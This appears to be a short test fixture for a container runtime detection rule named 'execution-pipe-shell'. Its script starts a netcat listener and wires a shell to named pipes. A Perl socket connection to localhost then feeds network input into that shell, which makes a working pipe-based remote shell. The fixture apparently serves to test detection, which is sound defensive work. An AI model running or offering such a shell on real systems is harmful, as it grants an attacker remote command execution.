# in: container
# fires: execution-pipe-shell
# Two of them, and a relay that is no tool: the shell has pipes alone.
sleep 2 | nc -l -p 4452 &
sleep 0.3
mkdir -p /run/service
mkfifo /run/service/in /run/service/out
sh < /run/service/in > /run/service/out 2>&1 &
perl -e 'open(I, ">", "/run/service/in"); open(O, "<", "/run/service/out"); socket(S, 2, 1, 6);
  connect(S, pack("S n C4 x8", 2, 4452, 127, 0, 0, 1)) or die $!; print I while <S>'
